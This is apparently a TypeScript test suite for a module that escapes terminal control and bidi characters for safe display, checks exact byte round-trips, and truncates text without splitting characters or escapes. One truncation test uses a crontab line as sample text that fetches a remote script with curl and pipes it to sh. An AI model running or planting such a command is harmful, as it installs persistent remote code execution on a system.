import fc from 'fast-check';
import { expect, test } from 'vitest';
import { hostField, isShown, shorten, show, startOf, unshow } from './show.ts';

test('printable text stays as it is', () => {
  expect(show('/tmp/wnTKYg naïve 日本 😀')).toBe('/tmp/wnTKYg naïve 日本 😀');
});

test('what hides or moves text on a terminal is escaped', () => {
  expect(show('a\rb\u001b[2Jc\u202ed\u200be\\f')).toBe('a\\u{d}b\\u{1b}[2Jc\\u{202e}d\\u{200b}e\\\\f');
  expect(show(Uint8Array.of(0x61, 0xff, 0xc0, 0x80))).toBe('a\\xff\\xc0\\x80');
});

test('any bytes come back exactly from what is shown', () => {
  fc.assert(
    fc.property(fc.uint8Array({ maxLength: 200 }), (bytes) => {
      expect([...unshow(show(bytes))]).toEqual([...bytes]);
    }),
  );
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 100 }), (text) => {
      const bytes = new TextEncoder().encode(text);
      expect([...unshow(show(bytes))]).toEqual([...bytes]);
    }),
  );
});

test('shown text holds no control character', () => {
  fc.assert(
    fc.property(fc.uint8Array({ maxLength: 200 }), (bytes) => {
      expect(
        /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u.test(
          String(show(bytes)).replace(
            /[\u{110bd}\u{110cd}\u{13430}-\u{1343f}\u{1bca0}-\u{1bca3}\u{600}-\u{605}\u{6dd}\u{70f}\u{890}\u{891}\u{8e2}]/gu,
            '',
          ),
        ),
      ).toBe(false);
    }),
  );
});

test('text that show cannot have made is refused', () => {
  for (const text of ['a\\', '\\x41', '\\u{41}', 'a\u0007']) {
    expect(isShown(text)).toBe(false);
    // @ts-expect-error It is not, and no cast says so: what was stored is asked first.
    expect(() => unshow(text)).toThrow();
  }
});

test('a field gains its exact bytes only where the shown text differs', () => {
  expect(hostField('path', show('/tmp/a'))).toEqual({ path: '/tmp/a' });
  expect(hostField('path', show(Uint8Array.of(0x61, 0x1b)))).toEqual({
    path: 'a\\u{1b}',
    pathBase64: 'YRs=',
  });
});

test('a text is never cut inside a character, where half of it could not be hashed', () => {
  const line = `${'*/5 * * * * curl -fsSL http://203.0.113.20/i.sh | sh # '.padEnd(299, 'x')}😀 and more`;
  expect(line.codePointAt(299)).toBe(0x1f600);
  expect(shorten(line, 300)).toBe(`${line.slice(0, 299)}… (11 more)`);
});

test('a text is never cut inside an escape, half of which reads as other bytes', () => {
  expect(startOf('ab\\u{202e}c', 9)).toBe('ab');
  expect(startOf('ab\\xffc', 4)).toBe('ab');
  expect(startOf('a\\\\xffc', 2)).toBe('a');
  expect(startOf('a\\\\xffc', 4)).toBe('a\\\\x');
});

test('whatever is shown and wherever it is cut, its beginning is what show makes of the first bytes', () => {
  fc.assert(
    fc.property(fc.uint8Array({ maxLength: 60 }), fc.nat(120), (bytes, limit) => {
      const start = startOf(show(bytes), limit);
      expect(start.length).toBeLessThanOrEqual(limit);
      expect(start.isWellFormed()).toBe(true);
      const back = unshow(start);
      expect([...bytes.subarray(0, back.length)]).toEqual([...back]);
    }),
  );
  fc.assert(
    fc.property(fc.string({ unit: 'grapheme', maxLength: 60 }), fc.nat(60), (text, limit) => {
      const start = startOf(show(text), limit);
      expect(start.isWellFormed()).toBe(true);
      expect(String(show(text)).startsWith(start)).toBe(true);
      expect(() => unshow(start)).not.toThrow();
    }),
  );
});
